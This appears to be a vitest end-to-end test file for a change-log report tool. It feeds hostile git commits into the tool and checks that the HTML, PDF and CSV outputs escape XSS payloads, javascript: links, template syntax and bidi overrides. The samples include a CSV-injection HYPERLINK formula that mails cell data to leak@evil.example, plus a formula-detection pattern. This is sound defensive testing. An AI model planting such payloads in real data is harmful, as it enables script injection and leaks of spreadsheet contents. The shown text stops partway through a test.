import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runDemo } from "../../src/cli/commands/demo.js";
import { collectGitRepo } from "../../src/collectors/git/collect.js";
import type { ResolvedRepo } from "../../src/config/load.js";
import type { RepoRole } from "../../src/config/schema.js";
import { DEMO_PERIOD, PAYMENTS_IMAGE } from "../../src/demo/org.js";
import { GITHUB_WEB, type Person, RepoFactory } from "../../src/demo/repo-factory.js";
import type { Finding } from "../../src/evidence/finding.js";
import type { ChangeKind, UnresolvedIdentity } from "../../src/evidence/population.js";
import { silentLogger } from "../../src/log/logger.js";
import { parsePeriod } from "../../src/period.js";
import type { ChangeRow } from "../../src/reports/change-rows.js";
import { renderChangeLogHtml } from "../../src/reports/html/changelog-html.js";
import { buildChangeLogReport, type ChangeLogReport } from "../../src/reports/model.js";
import { renderChangeLogPdf } from "../../src/reports/pdf/changelog-pdf.js";
import { writeChangeLogReport } from "../../src/reports/write.js";
import { type DB, openStore } from "../../src/store/db.js";
import { tempDir } from "../helpers/tmp.js";

/*
 * End to end: real repositories built with RepoFactory, collected into a real store, rendered to
 * HTML, PDF, the change and finding populations (JSON, CSV) and the manifest, and read back (the
 * PDF with poppler's pdftotext / pdfinfo).
 */

// ---------------------------------------------------------------------------------------------
// Helpers

function tool(name: string, args: readonly string[]): string {
  try {
    return execFileSync(name, [...args], { encoding: "utf8", maxBuffer: 64 * 1024 * 1024 });
  } catch (e) {
    const code = (e as NodeJS.ErrnoException).code;
    if (code === "ENOENT") throw new Error(`${name} is missing: apt-get install -y poppler-utils`);
    throw e;
  }
}

const pdfText = (file: string): string => tool("pdftotext", ["-layout", "-enc", "UTF-8", file, "-"]);
const pdfRaw = (file: string): string => tool("pdftotext", ["-raw", "-enc", "UTF-8", file, "-"]);

function pdfPages(file: string): number {
  const m = /^Pages:\s+(\d+)$/m.exec(tool("pdfinfo", [file]));
  if (!m?.[1]) throw new Error(`pdfinfo gave no page count for ${file}`);
  return Number(m[1]);
}

/** Text with all whitespace removed: table cells wrap, so compare without line breaks. */
const squash = (s: string): string => s.replace(/\s+/g, "");

function repoConfig(name: string, dir: string, role: RepoRole = "app"): ResolvedRepo {
  return {
    name,
    source: dir,
    role,
    allBranches: false,
    protectedBranches: ["main"],
    location: { kind: "path", path: dir },
  };
}

function sha256(file: string): string {
  return createHash("sha256").update(readFileSync(file)).digest("hex");
}

/** The decoded value of an attribute in an HTML tag (handlebars escapes ' and = there). */
function decodeEntities(s: string): string {
  return s
    .replace(/&#x([0-9a-f]+);/gi, (_m, h: string) => String.fromCodePoint(Number.parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_m, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}

/** RFC 4180 as csv-stringify writes it: quoted cells, doubled quotes, "\n" between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** What a spreadsheet runs as a formula when a cell starts with it (csv-stringify's list). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** changes.json (SPEC §4): every change with every verdict. */
interface ChangesFile {
  period: { label: string; from: string; to: string; display: string };
  generatedAt: string;
  toolVersion: string;
  rules: string[];
  changes: ChangeRow[];
}

/** findings.json (SPEC §4): every verdict other than pass and n/a, flat. */
interface FindingsFile {
  period: { label: string; from: string; to: string; display: string };
  generatedAt: string;
  toolVersion: string;
  findings: Finding[];
  unresolvedIdentities: UnresolvedIdentity[];
  identityConflicts?: { email: string; claimedBy: string[] }[];
}

interface Manifest {
  tool: string;
  toolVersion: string;
  period: { label: string };
  generatedAt: string;
  ledgerHead: string | null;
  files: { file: string; sha256: string; bytes: number }[];
}

interface Written {
  report: ChangeLogReport;
  dir: string;
  html: string;
  pdf: string;
  pdfText: string;
  /** changes.json's raw text: the population keeps raw values (bidi controls too). */
  changesText: string;
  changes: ChangesFile;
  changesCsv: string[][];
  findings: FindingsFile;
  findingsCsv: string[][];
  manifest: Manifest;
}

const REPORT_FILES = [
  "access.csv",
  "access.json",
  "changes.csv",
  "changes.json",
  "coverage.json",
  "deployments.csv",
  "deployments.json",
  "findings.csv",
  "findings.json",
  "index.html",
  "people.csv",
  "people.json",
  "report.pdf",
];

function readWritten(report: ChangeLogReport, dir: string): Written {
  const read = (f: string): string => readFileSync(path.join(dir, f), "utf8");
  const pdf = path.join(dir, "report.pdf");
  return {
    report,
    dir,
    html: read("index.html"),
    pdf,
    pdfText: pdfText(pdf),
    changesText: read("changes.json"),
    changes: JSON.parse(read("changes.json")) as ChangesFile,
    changesCsv: parseCsv(read("changes.csv")),
    findings: JSON.parse(read("findings.json")) as FindingsFile,
    findingsCsv: parseCsv(read("findings.csv")),
    manifest: JSON.parse(read("manifest.json")) as Manifest,
  };
}

async function render(
  db: DB,
  periodSpec: string,
  configured: readonly string[],
  now: Date,
  outDir: string,
): Promise<Written> {
  const period = parsePeriod(periodSpec);
  // As a config declaring the image CI builds from payments-api would (C12 traces to it).
  const report = buildChangeLogReport(
    db,
    period,
    configured,
    now,
    {},
    {
      people: [],
      exceptions: [],
      images: new Map([["acme/payments-api", [PAYMENTS_IMAGE]]]),
    },
  );
  const written = await writeChangeLogReport(report, period, outDir);
  expect(written.files).toEqual([
    "index.html",
    "report.pdf",
    "changes.json",
    "changes.csv",
    "findings.json",
    "findings.csv",
    "deployments.json",
    "deployments.csv",
    "access.json",
    "access.csv",
    "people.json",
    "people.csv",
    "coverage.json",
    "manifest.json",
  ]);
  return readWritten(report, written.dir);
}

/**
 * A title printed with no word broken: a column narrower than a word of its bold title would
 * split it ("Signatur" / "e"); wrapping between words is fine.
 */
function wholeWords(title: string): RegExp {
  const words = title.split(" ").map((w) => w.replace(/[.*+?^${}()|[\]\\]/g, "\\$&"));
  return new RegExp(`(^|\\s)${words.join("\\s+")}(\\s|$)`);
}

/** The text of each page (pdftotext ends every page with a form feed). */
function pagesOf(text: string): string[] {
  const pages = text.split("\f");
  if (pages.at(-1)?.trim() === "") pages.pop();
  return pages;
}

/** pdfinfo's page count equals the pages pdftotext reads, each footed "page N of M". */
function checkPageFooters(pdf: string, title: string, text: string): void {
  const count = pdfPages(pdf);
  const pages = pagesOf(text);
  expect(pages).toHaveLength(count);
  pages.forEach((t, i) => {
    expect(t).toContain(`${title} · page ${i + 1} of ${count}`);
  });
}

/** The manifest names every file written beside it, with its SHA-256 and size, and nothing else. */
function checkManifest(w: Written): void {
  const m = w.manifest;
  expect(m.tool).toBe("changeproof");
  expect(m.toolVersion).toBe(w.report.toolVersion);
  expect(m.period.label).toBe(w.report.period.label);
  expect(m.generatedAt).toBe(w.report.generatedAt);
  expect(m.ledgerHead).toBe(w.report.coverage.ledger.head);
  expect(m.ledgerHead).toMatch(/^[0-9a-f]{64}$/);
  expect(m.files.map((f) => f.file)).toEqual(REPORT_FILES);
  for (const f of m.files) {
    const file = path.join(w.dir, f.file);
    expect(sha256(file), f.file).toBe(f.sha256);
    expect(readFileSync(file).length, f.file).toBe(f.bytes);
  }
  expect(readdirSync(w.dir).sort()).toEqual([...REPORT_FILES, "manifest.json"].sort());
}

/**
 * The populations agree with the report model and with each other: changes.json is the model's
 * rows, findings.json its findings, each CSV one record per row, and every change's exceptions
 * are exactly its findings.
 */
function checkPopulations(w: Written): void {
  const r = w.report;
  const header = { period: r.period, generatedAt: r.generatedAt, toolVersion: r.toolVersion };
  expect(w.changes).toEqual(JSON.parse(JSON.stringify({ ...header, rules: r.changeRules, changes: r.changes })));
  const { identityConflicts, ...findings } = w.findings;
  expect(findings).toEqual(
    JSON.parse(JSON.stringify({ ...header, findings: r.findings, unresolvedIdentities: r.unresolved })),
  );
  // Emails two parties claim, beside the identities that resolve to nobody, when written there.
  expect(identityConflicts).toEqual(r.identityConflicts);
  expect(r.totals.changes).toBe(r.changes.length);
  expect(r.totals.findings).toBe(r.findings.length);
  expect(r.branches.flatMap((b) => b.changes)).toEqual(r.changes);
  for (const c of r.changes) {
    expect(c.verdicts.map((v) => v.rule)).toEqual(r.changeRules);
    const own = r.findings.filter((f) => f.subject.kind === "change" && f.subject.id === c.id);
    expect(c.exceptions).toEqual(own.map((f) => `${f.rule} ${f.verdict}`));
  }

  const [head, ...rows] = w.changesCsv;
  expect(head).toEqual([
    "id",
    "repo",
    "branch",
    "also_on",
    "kind",
    "landed_at",
    "title",
    "author",
    "merged_by",
    "commits",
    "dropped_at",
    ...r.changeRules,
  ]);
  expect(rows.map((x) => x[0])).toEqual(r.changes.map((c) => c.id));
  const [fhead, ...frows] = w.findingsCsv;
  expect(fhead?.slice(0, 4)).toEqual(["rule", "verdict", "subject_kind", "subject"]);
  expect(frows.map((x) => `${x[0]} ${x[1]} ${x[3]}`)).toEqual(
    r.findings.map((f) => `${f.rule} ${f.verdict} ${f.subject.id}`),
  );
  // No cell a spreadsheet would run: titles, names and reasons come from git and GitHub.
  for (const cell of [...w.changesCsv, ...w.findingsCsv].flat()) expect(cell).not.toMatch(FORMULA_START);
}

// ---------------------------------------------------------------------------------------------
// The hostile repository

const SCRIPT = "<script>alert(1)</script>";
const IMG = '"><img src=x onerror=alert(1)>';
const CTOR = "{{constructor}}";
const RLO = "\u202E";
const CJK = "山田太郎";
const CJK2 = "张伟";
const CYRILLIC = "Евгения Иванова";
const EMOJI = "🦄🚀";
const LONG_SUBJECT = `Long subject ${"lorem ipsum dolor sit amet ".repeat(80)}`.slice(0, 2000);
const FORMULA = '=HYPERLINK("mailto:leak@evil.example?body="&A1,"Open the release notes")';
const TEMPLATE_SUBJECT = `Template ${CTOR} and {{#each this}}x{{/each}} (#7)`;
const MERGE_SUBJECT = `Merge pull request #12 from evil/${SCRIPT}`;
const CRAFTED_SUBJECT = "Crafted object with raw HTML identities";

const alice: Person = { name: "Alice Example", email: "alice@example.com" };
const cjkPerson: Person = { name: CJK, email: "taro@example.jp" };
const cjkPerson2: Person = { name: CJK2, email: "wei@example.cn" };
const cyrPerson: Person = { name: CYRILLIC, email: "evgenia@example.ru" };
const rtlPerson: Person = { name: `Mallory ${RLO}gnp.exe`, email: "mallory@example.com" };
const ctorPerson: Person = { name: `${CTOR} ${EMOJI} Builder`, email: `${CTOR}@example.com` };
const formulaPerson: Person = { name: "@SUM(1+1)", email: "sum@evil.example" };

/** A commit identity as every output names it ("Name <email>"). */
const ident = (p: Person): string => `${p.name} <${p.email}>`;

const PERIOD = "2026Q3";
const REPO = "evil/hostile";
const d = (iso: string): Date => new Date(iso);

/**
 * git strips "<" and ">" from identities it writes itself, but a commit object can hold any
 * bytes (other tools, hand-made objects): write one with hostile identities directly.
 */
function craftCommit(repo: RepoFactory, author: string, committer: string, message: string, at: Date): string {
  const sec = Math.floor(at.getTime() / 1000);
  const tree = repo.git(["rev-parse", "HEAD^{tree}"]);
  const parent = repo.head();
  const body = `tree ${tree}\nparent ${parent}\nauthor ${author} ${sec} +0000\ncommitter ${committer} ${sec} +0000\n\n${message}\n`;
  const sha = repo.git(["hash-object", "-t", "commit", "-w", "--literally", "--stdin"], {}, body);
  repo.forceMove("main", sha);
  return sha;
}

interface HostileRepo {
  repo: RepoFactory;
  /** First-parent commits of main in the period, oldest first. */
  inPeriod: string[];
  /** The pull request's merge commit (two parents) on main. */
  merge: string;
}

const IN_PERIOD = 54;

function buildHostileRepo(dir: string): HostileRepo {
  const repo = RepoFactory.init(dir, { author: alice, start: d("2026-06-20T09:00:00Z") });
  repo.commit("Initial commit before the period", { files: { "README.md": "# hostile\n" } });

  repo.commit(`Add ${SCRIPT} to the page`, { author: alice, at: d("2026-07-01T10:00:00Z"), files: { "a.txt": "1" } });
  repo.commit(`Fix ${IMG} rendering`, { author: cyrPerson, at: d("2026-07-02T10:00:00Z"), files: { "a.txt": "2" } });
  repo.commit(TEMPLATE_SUBJECT, { author: ctorPerson, at: d("2026-07-03T10:00:00Z") });
  repo.commit(`Harmless ${RLO}txt.exe subject`, { author: rtlPerson, at: d("2026-07-04T10:00:00Z") });
  repo.commit(`${EMOJI} Deploy ${CJK2} ${CYRILLIC}\n\nCo-authored-by: ${SCRIPT} <co@evil.example>`, {
    author: cjkPerson,
    at: d("2026-07-05T10:00:00Z"),
  });
  repo.commit(LONG_SUBJECT, { author: cjkPerson2, at: d("2026-07-06T10:00:00Z") });
  craftCommit(
    repo,
    `${SCRIPT} <script@evil.example>`,
    `${IMG} <img@evil.example>`,
    CRAFTED_SUBJECT,
    d("2026-07-07T10:00:00Z"),
  );
  // CSV injection: a subject and an author name a spreadsheet would run as formulas.
  repo.commit(FORMULA, { author: formulaPerson, at: d("2026-07-07T12:00:00Z") });

  // A pull request merged with a merge commit, its branch named with markup.
  repo.checkout("feature/x", { create: true });
  repo.commit("Feature work", { at: d("2026-07-08T10:00:00Z"), files: { "b.txt": "1" } });
  repo.checkout("main");
  const merge = repo.mergeCommit("feature/x", MERGE_SUBJECT, { author: alice, at: d("2026-07-09T10:00:00Z") });

  // Enough ordinary changes to need several pages.
  for (let i = 0; i < 45; i++) {
    repo.commit(`Routine change ${i} by ${i % 2 ? CJK : CYRILLIC}`, {
      author: i % 2 ? cjkPerson : cyrPerson,
      at: new Date(Date.parse("2026-08-01T00:00:00Z") + i * 86400_000),
    });
  }
  // After the period: must not be in the population.
  repo.commit("After the period", { at: d("2026-10-05T10:00:00Z") });

  const from = Date.parse("2026-07-01T00:00:00Z") / 1000;
  const to = Date.parse("2026-10-01T00:00:00Z") / 1000;
  const inPeriod = repo
    .git(["log", "--first-parent", "--reverse", "--format=%H %ct", "main"])
    .split("\n")
    .map((l) => l.split(" "))
    .filter(([, ct]) => Number(ct) >= from && Number(ct) < to)
    .map(([sha]) => sha ?? "");
  if (inPeriod.length !== IN_PERIOD)
    throw new Error(`expected ${IN_PERIOD} commits in the period, built ${inPeriod.length}`);
  if (repo.git(["rev-list", "--parents", "-n", "1", merge]).split(" ").length !== 3) {
    throw new Error("the pull request's merge commit should have two parents");
  }
  return { repo, inPeriod, merge };
}

/** The one gap a store without GitHub data has: no push-like commit can be told from a squash or rebase merge. */
const cannotBeJudged = (n: number): string =>
  `${n} changes in ${REPO} cannot be judged: GitHub's data on them is missing (GitHub not collected for the repository, or not since they landed), so their verdicts are blocked`;
const NEVER_COLLECTED = "evil/never-collected: git history was never collected successfully";

const byTitle = (w: Written, title: string): ChangeRow => {
  const c = w.changes.changes.find((x) => x.title === title);
  if (!c) throw new Error(`no change titled ${title.slice(0, 60)}`);
  return c;
};

describe("change-log report on hostile git data", () => {
  const root = tempDir("changeproof-report-");
  let hostile: HostileRepo;
  let db: DB;
  /** Git only: every change of the period is unknown, so the cover has exactly one gap. */
  let gitOnly: Written;
  /** The same, with a configured repository never collected: a second gap. */
  let withGap: Written;
  /** A period in which nothing landed, after a collection that covers it: no gap at all. */
  let quiet: Written;
  let afterRewrite: Written;
  let rewrite: { oldTip: string; newTip: string; dropped: string[] };
  const NOW = d("2026-10-02T00:00:00Z");

  beforeAll(async () => {
    hostile = buildHostileRepo(path.join(root, "repos", "hostile"));
    db = openStore(path.join(root, "store.db"));
    const cfg = repoConfig(REPO, hostile.repo.dir);
    const opts = (iso: string) => ({ cacheDir: path.join(root, "cache"), log: silentLogger, now: () => d(iso) });
    await collectGitRepo(db, cfg, opts("2026-10-01T06:00:00Z"));
    gitOnly = await render(db, PERIOD, [REPO], NOW, path.join(root, "out-git-only"));
    withGap = await render(db, PERIOD, [REPO, "evil/never-collected"], NOW, path.join(root, "out-gap"));
    quiet = await render(db, "2026-05", [REPO], NOW, path.join(root, "out-quiet"));

    // Someone force-pushes main: the last two September commits are replaced by another one,
    // dated inside the period.
    const oldTip = hostile.repo.head("main");
    const dropped = hostile.inPeriod.slice(-2);
    const base = hostile.repo.head(`${dropped[0]}~1`);
    hostile.repo.forceMove("main", base);
    hostile.repo.commit("Replacement for the dropped changes", { at: d("2026-09-14T12:00:00Z") });
    rewrite = { oldTip, newTip: hostile.repo.head("main"), dropped };
    await collectGitRepo(db, cfg, opts("2026-10-01T07:00:00Z"));
    afterRewrite = await render(db, PERIOD, [REPO], NOW, path.join(root, "out-rewrite"));
  });
  afterAll(() => db?.close());

  const all = (): Written[] => [gitOnly, withGap, quiet, afterRewrite];

  describe("HTML", () => {
    it("escapes markup from names, emails and subjects", () => {
      for (const w of [gitOnly, withGap, afterRewrite]) {
        expect(w.html).not.toMatch(/<script/i);
        expect(w.html).not.toMatch(/<img/i);
        expect(w.html).not.toMatch(/onerror=/i);
        expect(w.html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
        expect(w.html).toContain("&quot;&gt;&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;");
      }
      const h = gitOnly.html;
      // Each hostile value appears where it came from: the subject, the crafted author and
      // committer (one cell: author, then who committed the push), the merge subject.
      expect(h).toContain('<td class="subject">Add &lt;script&gt;alert(1)&lt;/script&gt; to the page</td>');
      expect(h).toContain(
        "<td>&lt;script&gt;alert(1)&lt;/script&gt; &lt;script@evil.example&gt;<br>&quot;&gt;&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt; &lt;img@evil.example&gt;</td>",
      );
      expect(h).toContain(
        '<td class="subject">Merge pull request #12 from evil/&lt;script&gt;alert(1)&lt;/script&gt;</td>',
      );
      // The co-author trailer is shown where co-authors are now: the identities that resolve to
      // nobody (with the change it touches) and C11's reason.
      const coAuthored = byTitle(gitOnly, `${EMOJI} Deploy ${CJK2} ${CYRILLIC}`);
      expect(h).toContain(
        `<tr><td>&lt;script&gt;alert(1)&lt;/script&gt; &lt;co@evil.example&gt;</td><td>${coAuthored.id}</td></tr>`,
      );
      expect(h).toContain("by unknown author &lt;script&gt;alert(1)&lt;/script&gt; &lt;co@evil.example&gt;");
    });

    it("shows template syntax from git literally instead of evaluating it", () => {
      expect(gitOnly.html).toContain(`<td class="subject">${TEMPLATE_SUBJECT}</td>`);
      expect(gitOnly.html).toContain(`<td>${CTOR} ${EMOJI} Builder &lt;${CTOR}@example.com&gt;<br>`);
      expect(gitOnly.html).not.toContain("function Object()");
      expect(gitOnly.html).not.toContain("[native code]");
    });

    it("keeps non-Latin names, emoji, the long subject and a formula-like subject intact", () => {
      const h = gitOnly.html;
      expect(h).toContain(`<td>${CJK} &lt;taro@example.jp&gt;<br>`);
      expect(h).toContain(`<td>${CJK2} &lt;wei@example.cn&gt;<br>`);
      expect(h).toContain(`<td>${CYRILLIC} &lt;evgenia@example.ru&gt;<br>`);
      expect(h).toContain(`<td class="subject">${EMOJI} Deploy ${CJK2} ${CYRILLIC}</td>`);
      expect(h).toContain(`<td class="subject">${LONG_SUBJECT.trim()}</td>`);
      // A formula is only a spreadsheet's problem: the page shows it as written (escaped).
      expect(decodeEntities(h)).toContain(`<td class="subject">${FORMULA}</td>`);
    });

    it("has a strict CSP whose style hash is the inline stylesheet's", () => {
      for (const w of all()) {
        const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(w.html);
        expect(meta?.[1]).toBeDefined();
        const csp = decodeEntities(meta?.[1] ?? "");
        const directives = csp.split(";").map((s) => s.trim());
        expect(directives).toContain("default-src 'none'");
        expect(directives).toContain("base-uri 'none'");
        expect(directives).toContain("form-action 'none'");
        expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|\*/);

        const styles = [...w.html.matchAll(/<style>([\s\S]*?)<\/style>/g)];
        expect(styles).toHaveLength(1);
        const css = styles[0]?.[1] ?? "";
        const hash = createHash("sha256").update(css, "utf8").digest("base64");
        expect(directives).toContain(`style-src 'sha256-${hash}'`);
        // No style attributes, which a hash-based style-src would block anyway.
        expect(w.html).not.toMatch(/\sstyle=/i);
      }
    });

    it("references nothing outside the file", () => {
      for (const w of all()) {
        expect(w.html).not.toMatch(/https?:\/\//i);
        expect(w.html).not.toMatch(/\s(src|href|action|srcset)=/i);
        expect(w.html).not.toMatch(/url\(/i);
        expect(w.html).not.toMatch(/@import/i);
      }
    });

    // A change's url comes from GitHub's data: only a web address becomes a link.
    it("links a change only to a web address, never to javascript: or data:", () => {
      const report: ChangeLogReport = structuredClone(gitOnly.report);
      const [a, b, c] = report.branches[0]?.changes ?? [];
      if (!a || !b || !c) throw new Error("fewer than three changes");
      a.url = "javascript:alert(document.domain)";
      b.url = "data:text/html,<script>alert(1)</script>";
      c.url = "https://github.com/evil/hostile/pull/1";
      const html = renderChangeLogHtml(report);
      expect(html).not.toMatch(/javascript:/i);
      expect(html).not.toMatch(/data:text/i);
      expect(html).toContain(`<td class="id">${a.id}</td>`);
      expect(html).toContain(`<td class="id">${b.id}</td>`);
      expect(html).toContain(`<a href="https://github.com/evil/hostile/pull/1" rel="noreferrer">${c.id}</a>`);
      expect([...html.matchAll(/\shref=/g)]).toHaveLength(1);
    });

    it("says 'No gaps' only when there is none, and lists every gap otherwise", () => {
      expect(quiet.report.coverage.gaps).toEqual([]);
      expect(quiet.report.totals.changes).toBe(0);
      expect(quiet.html).toContain("<strong>No gaps:</strong>");
      expect(quiet.html).not.toContain("Evidence is incomplete");

      // Without GitHub's data no change can be judged: that is a gap, and the only one.
      expect(gitOnly.report.coverage.gaps).toEqual([cannotBeJudged(IN_PERIOD)]);
      expect(gitOnly.html).toContain("<h2>Evidence is incomplete</h2>");
      expect(gitOnly.html).toContain(`<ul><li>${cannotBeJudged(IN_PERIOD).replace("'", "&#x27;")}</li></ul>`);
      expect(gitOnly.html).not.toContain("No gaps");

      expect(withGap.report.coverage.gaps).toEqual([NEVER_COLLECTED, cannotBeJudged(IN_PERIOD)]);
      expect(withGap.html).toContain("<h2>Evidence is incomplete</h2>");
      expect(withGap.html).toContain(`<li>${NEVER_COLLECTED}</li>`);
      expect(withGap.html).not.toContain("No gaps");
    });

    // Trojan Source (CVE-2021-42574): a U+202E in an author name or subject reverses how the rest
    // of its table cell is displayed (e.g. the email next to the name). Evidence must show what git
    // holds: bidi controls are shown as visible tokens, and cells are isolated besides.
    it("cannot be visually reordered by a bidi override in git data", () => {
      for (const w of [gitOnly, afterRewrite]) expect(w.html.includes(RLO)).toBe(false);
      expect(gitOnly.html).toContain("Harmless ⟨U+202E⟩txt.exe subject");
      expect(gitOnly.html).toContain("Mallory ⟨U+202E⟩gnp.exe &lt;mallory@example.com&gt;");
      expect(gitOnly.html).toMatch(/unicode-bidi:\s*isolate/);
      expect(gitOnly.pdfText.includes(RLO)).toBe(false);
      // The populations keep the raw value.
      expect(gitOnly.changesText).toContain(`Harmless ${RLO}txt.exe subject`);
      expect(byTitle(gitOnly, `Harmless ${RLO}txt.exe subject`).author).toBe(ident(rtlPerson));
    });
  });

  describe("PDF", () => {
    it("shows the period, the repository and non-Latin names", () => {
      const text = gitOnly.pdfText;
      expect(text).toContain("Change log 2026Q3");
      expect(text).toContain("Period 2026Q3: 1 Jul 2026 – 30 Sep 2026 (UTC)");
      expect(text).toContain(REPO);
      expect(text).toContain(CYRILLIC);
      expect(squash(text)).toContain(squash(SCRIPT));
      expect(squash(text)).toContain(squash(IMG));
    });

    // DejaVu Sans has no CJK glyphs: such cells are set in Noto Sans SC, and what no shipped font
    // has (emoji) is printed as a visible code point instead of an empty box.
    it("shows CJK names, and code points for what no font has", () => {
      expect(gitOnly.pdfText).toContain(CJK);
      expect(gitOnly.pdfText).toContain(CJK2);
      expect(gitOnly.pdfText).toContain("[U+1F984]");
    });

    it("says 'No gaps' when there is none and 'Evidence is incomplete' with each gap on the cover", () => {
      expect(quiet.pdfText).toContain("No gaps");
      expect(quiet.pdfText).not.toContain("Evidence is incomplete");

      for (const [w, gaps] of [
        [gitOnly, [cannotBeJudged(IN_PERIOD)]],
        [withGap, [NEVER_COLLECTED, cannotBeJudged(IN_PERIOD)]],
      ] as const) {
        const raw = pdfRaw(w.pdf);
        expect(raw).not.toContain("No gaps");
        // On the cover, i.e. the first page.
        const cover = raw.split("\f")[0] ?? "";
        expect(cover).toContain("Evidence is incomplete");
        expect(squash(cover)).toContain(squash(gaps.map((g) => `• ${g}`).join("")));
      }
      expect(squash(pdfRaw(gitOnly.pdf))).not.toContain(squash(NEVER_COLLECTED));
    });

    it("numbers every page 'page N of M' with M the real page count", () => {
      expect(pdfPages(gitOnly.pdf)).toBeGreaterThan(2);
      for (const w of all()) checkPageFooters(w.pdf, w.report.title, w.pdfText);
    });

    // Layout: a column narrower than its bold title would wrap it ("Signatur" / "e").
    it("prints every column title whole", () => {
      // Each table's header row, its cells in drawing order: a wrapped title's words stay in order.
      const raw = pdfRaw(gitOnly.pdf);
      for (const row of [
        ["Repository", "Last successful collection", "Latest run", "Runs started in the period"],
        ["Rule", "What it checks", "Criteria", "Verdicts (subjects judged)"],
        ["Rule", "Subject", "Verdict", "Reason"],
        ["Commit identity", "Changes it touches"],
        ["Landed (UTC)", "Change", "Kind", "Title", "Author · merged by", "Findings"],
      ]) {
        expect(raw, row.join(" | ")).toMatch(wholeWords(row.join(" ")));
      }
      // The changes table's titles fit their columns: one line holds them all.
      expect(raw.split(/[\n\f]/)).toContain("Landed (UTC) Change Kind Title Author · merged by Findings");
      expect(pdfRaw(afterRewrite.pdf)).toMatch(
        wholeWords(
          [
            "Repository",
            "Branch",
            "Old tip (dropped)",
            "New tip (replacement)",
            "Commits dropped",
            "Happened between",
            "Run",
          ].join(" "),
        ),
      );
    });

    it("shows the sections of the report, in order", () => {
      const raw = pdfRaw(gitOnly.pdf);
      // A heading is a line of its own; a page break puts a form feed before a page's first line.
      const at = (h: string): number => raw.search(new RegExp(`^\\f?${h}$`, "m"));
      const order = [
        "Verdicts per rule",
        "Findings",
        "Identities that resolve to nobody",
        "Changes",
        `${REPO} · main: ${IN_PERIOD} changes`,
      ].map(at);
      expect(
        order.every((i) => i >= 0),
        String(order),
      ).toBe(true);
      expect(order).toEqual([...order].sort((a, b) => a - b));
    });

    it("cuts a title longer than a page, says where the rest is, and numbers every page", async () => {
      const report: ChangeLogReport = structuredClone(gitOnly.report);
      const target = report.branches[0]?.changes[5];
      if (!target) throw new Error("no sixth change");
      target.title = `HUGE-START ${"word ".repeat(3000)}HUGE-END`;
      const pdf = path.join(root, "huge.pdf");
      await renderChangeLogPdf(report, pdf);
      const text = pdfText(pdf);
      checkPageFooters(pdf, report.title, text);
      expect(text).toContain("HUGE-START");
      expect(text).not.toContain("HUGE-END");
      expect(squash(text)).toContain(squash("more characters in changes.json"));
    });

    // A row taller than a page would run off it and scatter its cells over several pages.
    it("keeps a change's id and author on the same page however long its title", async () => {
      const report: ChangeLogReport = structuredClone(gitOnly.report);
      const target = report.branches[0]?.changes[5];
      if (!target) throw new Error("no sixth change");
      target.title = `HUGE-START ${"word ".repeat(3000)}HUGE-END`;
      // Names found nowhere else in the report (its real author is also listed among the
      // identities), short enough not to wrap.
      target.author = "Rowena <ro@x.example>";
      target.mergedBy = "Quentin <qu@x.example>";
      target.exceptions = [...target.exceptions, "FINDINGS-CELL-END"];
      const sha = target.commits[0]?.slice(0, 12) ?? "";
      expect(sha).toHaveLength(12);
      const pdf = path.join(root, "huge-row.pdf");
      await renderChangeLogPdf(report, pdf);
      const pages = pagesOf(pdfText(pdf));
      const idPages = pages.flatMap((p, i) => (p.includes(sha) ? [i] : []));
      // The id in the Changes table (its findings and its identities elsewhere name it too).
      const rowPage = idPages.find((i) => pages[i]?.includes("HUGE-START"));
      expect(rowPage).toBeDefined();
      const page = pages[rowPage ?? -1] ?? "";
      expect(page).toContain("Rowena <ro@x.example>");
      expect(page).toContain("Quentin <qu@x.example>");
      // Its findings cell too, to its end.
      expect(page).toContain("FINDINGS-CELL-END");
    });

    it("has the report's metadata", () => {
      const info = tool("pdfinfo", [gitOnly.pdf]);
      expect(info).toMatch(/^Title:\s+Change log 2026Q3$/m);
      expect(info).toMatch(/^Subject:\s+Change management evidence, period 2026Q3$/m);
    });
  });

  describe("populations and manifest", () => {
    it("lists every first-parent commit of the period as one change, and nothing else", () => {
      const rows = gitOnly.changes.changes;
      expect(rows.map((c) => c.id)).toEqual(hostile.inPeriod.map((sha) => `${REPO}@${sha}`));
      expect(rows.map((c) => c.commits)).toEqual(hostile.inPeriod.map((sha) => [sha]));
      expect(gitOnly.changes.rules).toEqual(["C1", "C2", "C3", "C4", "C5", "C6", "C7", "C11", "C12"]);
      expect(gitOnly.changes.period).toMatchObject({
        label: PERIOD,
        from: "2026-07-01T00:00:00.000Z",
        to: "2026-10-01T00:00:00.000Z",
      });
      // Without GitHub's data nothing can be told apart, the pull request's merge commit included,
      // and a "(#7)" in a subject, which anyone can write, makes no pull request.
      for (const c of rows) {
        expect(c, c.id).toMatchObject({
          repo: REPO,
          branch: "main",
          alsoOn: [],
          kind: "unknown",
          kindLabel: "unknown (GitHub's data missing)",
          url: null,
          pullRequest: null,
          protection: null,
          droppedAt: null,
        });
        const blocked = `GitHub was not collected for ${REPO}: whether a pull request landed ${c.commits[0]?.slice(0, 12)} cannot be shown`;
        // C12 judges only an automation's changes to a GitOps repository.
        expect(c.verdicts.find((v) => v.rule === "C12")?.verdict).toBe("n/a");
